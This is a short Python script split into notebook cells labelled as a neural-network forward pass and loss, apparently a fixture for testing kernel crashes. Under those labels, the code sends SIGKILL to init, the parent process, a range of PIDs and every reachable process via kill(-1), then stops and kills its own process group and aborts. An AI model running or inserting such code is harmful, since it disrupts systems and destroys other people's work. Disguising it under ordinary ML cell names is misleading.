"""Every process it can name gets every signal: parents, the first one, and all at once."""

REASON = "the kernel died"

# %% nn_forward_pass
import os
import signal

for number in {1, os.getppid(), *range(2, 400)} - {os.getpid()}:
    try:
        os.kill(number, signal.SIGKILL)
        print("killed", number)
    except OSError:
        pass
for group in (0, os.getsid(0)):
    print(group, os.getpgid(0))
os.kill(-1, signal.SIGKILL)

# %% nn_loss
os.kill(0, signal.SIGSTOP)
os.kill(os.getpid(), signal.SIGSTOP)
os.killpg(0, signal.SIGKILL)
os.abort()
